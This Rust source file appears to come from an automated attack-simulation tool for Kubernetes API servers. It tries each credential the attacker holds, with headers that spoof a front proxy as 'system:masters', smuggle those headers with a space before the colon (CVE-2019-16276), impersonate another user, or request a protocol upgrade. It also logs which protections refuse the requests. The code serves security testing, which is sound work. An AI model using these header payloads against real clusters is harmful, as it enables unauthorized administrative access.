//! The attacker shows what it holds: its own credentials, and those that it gained on this path.

use super::Tactic;
use super::spend::{Shown, for_ask, request};
use crate::field::{Field, Probe};
use crate::holdings::{Held, Secret};
use crate::notes::Notes;
use crate::target::{Ask, Target, TokenShape};
use async_trait::async_trait;
use ravelin_oracle::{Attempt, GainKind, Protection};
use ravelin_pki::inspect;
use std::net::SocketAddr;

/// Asking with every credential that it holds.
pub struct OwnCredentials(pub Dress);

/// What its requests look like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Dress {
    /// Like anybody's.
    Plain,
    /// They ask for another protocol (RFC 9110 section 7.8): a server that treats such requests
    /// apart may forget to ask whether they are allowed.
    Upgrade,
    /// They name another as whom they are made, as a front proxy's do: a server that takes any
    /// certificate for a front proxy's believes it.
    FrontProxy,
    /// The same with a space before each colon: a server that overlooks it reads what a front proxy
    /// before it did not (CVE-2019-16276).
    Smuggled,
    /// They ask to be taken for another's, who may do everything.
    Impersonating,
}

impl Dress {
    fn headers(self, target: &Target) -> Vec<(String, String)> {
        // Who asks directly is the client itself; a user of that name needs no right but the group's.
        let name = if target.is_asked_directly { "kubernetes-admin" } else { &target.client.common_name };
        let headers = match self {
            Self::Plain => vec![],
            Self::Upgrade => vec![("connection", "Upgrade"), ("upgrade", "SPDY/3.1")],
            Self::FrontProxy => vec![("x-remote-user", name), ("x-remote-group", "system:masters")],
            Self::Smuggled => vec![("x-remote-user ", name), ("x-remote-group ", "system:masters")],
            Self::Impersonating => {
                vec![("impersonate-user", name), ("impersonate-group", "system:masters")]
            }
        };
        headers.into_iter().map(|(name, value)| (name.to_owned(), value.to_owned())).collect()
    }

    /// What refused a request so dressed; where it would be refused undressed too, that the dress
    /// changed nothing is the refusal.
    fn refused_by(self, status: u16) -> Option<Protection> {
        match (self, status) {
            (Self::FrontProxy | Self::Smuggled, 401 | 403) => Some(Protection::FrontProxy),
            (Self::Smuggled, 400) => Some(Protection::HeaderSyntax),
            (Self::Impersonating, 403) => Some(Protection::ImpersonationRights),
            _ => None,
        }
    }

    /// Is it said in headers as whom the request is made?
    fn names_another(self) -> bool {
        matches!(self, Self::FrontProxy | Self::Smuggled | Self::Impersonating)
    }
}

#[async_trait(?Send)]
impl Tactic for OwnCredentials {
    fn name(&self) -> &'static str {
        match self.0 {
            Dress::Plain => "own-credentials",
            Dress::Upgrade => "ask-for-an-upgrade",
            Dress::FrontProxy => "front-proxy-headers",
            Dress::Smuggled => "smuggled-headers",
            Dress::Impersonating => "impersonate",
        }
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        probe.await;
        let held: Vec<Held> = field.credentials();
        // Only there is it no tactic of its own to ask without any.
        let without = target.is_asked_directly.then_some(None);
        for held in without.into_iter().chain(held.iter().map(Some)) {
            for server in &target.servers {
                self.show(&notes, target, (held, *server)).await;
            }
        }
        notes.finish()
    }
}

impl OwnCredentials {
    /// Would the credential alone do?
    async fn is_granted_anyway(
        &self,
        notes: &Notes<'_>,
        target: &Target,
        (held, wanted): (Option<&Held>, &Ask),
    ) -> bool {
        let Some(server) = target.servers.first() else { return false };
        let asked = (for_ask(wanted, *server), shown(held));
        request(notes, *server, target.speaks, asked).await.is_ok_and(|answer| answer.granted())
    }

    async fn show(&self, notes: &Notes<'_>, target: &Target, (held, server): (Option<&Held>, SocketAddr)) {
        let flow = notes.field().flow(server);
        let with = held.map_or("no credential", |held| held.what.as_str());
        for wanted in target.asks.iter().chain(&target.reads) {
            let mut asked = for_ask(wanted, server);
            asked.headers.extend(self.0.headers(target));
            match request(notes, server, target.speaks, (asked, shown(held))).await {
                Ok(answer) if answer.granted() => {
                    let named = self.0.names_another();
                    if named && self.is_granted_anyway(notes, target, (held, wanted)).await {
                        notes.tell(format!("{flow}: {}: the headers changed nothing", wanted.deed()));
                        continue;
                    }
                    notes.learned(&flow, answer.body);
                    let text = format!("{} with {}", wanted.deed(), self.with(with));
                    notes.gained(&flow, GainKind::BeyondRights, text.clone());
                    let is_theirs = named || held.is_some_and(|held| is_the_clients(&held.secret, target));
                    if wanted.method != "GET" && is_theirs {
                        notes.gained(&flow, GainKind::ExecutedAsClient, text);
                    }
                }
                Ok(answer) => {
                    notes.tell(format!("{flow}: asked for {} with {}", wanted.what, self.with(with)));
                    match self.0.refused_by(answer.status) {
                        Some(by) => {
                            let text = format!("the headers changed nothing: {}", answer.status);
                            notes.refused(&flow, by, text, &target.stakes());
                        }
                        // Who is not known at all has not got as far as what the headers say.
                        None if self.0.names_another() => {
                            notes.tell(format!("{flow}: answered {}", answer.status));
                        }
                        None => notes.refused_by_answer(&flow, &answer, &target.stakes()),
                    }
                }
                Err(silence) => notes.tell(format!("{flow}: no answer ({silence:?})")),
            }
        }
    }
}

impl OwnCredentials {
    /// For people: the credential and how it was dressed.
    fn with(&self, held: &str) -> String {
        match self.0 {
            Dress::Plain => held.to_owned(),
            Dress::Upgrade => format!("{held}, asking for an upgrade"),
            Dress::FrontProxy => format!("{held} and a front proxy's headers"),
            Dress::Smuggled => format!("{held} and a front proxy's headers, misspelt"),
            Dress::Impersonating => format!("{held}, impersonating another"),
        }
    }
}

fn shown(held: Option<&Held>) -> Shown<'_> {
    held.map_or_else(Shown::default, |held| Shown::of(&held.secret))
}

/// Does the credential bear the very name that the path's client has?
fn is_the_clients(secret: &Secret, target: &Target) -> bool {
    match secret {
        Secret::Token(token) => match (TokenShape::of(token), &target.token) {
            (TokenShape::Jwt { claims: own, .. }, TokenShape::Jwt { claims, .. }) => {
                own["sub"] == claims["sub"]
            }
            _ => false,
        },
        Secret::Certificate(identity) => {
            let subject = identity.chain.first().and_then(inspect).map(|found| found.subject);
            subject.is_some_and(|subject| subject.common_name == target.client.common_name)
        }
    }
}
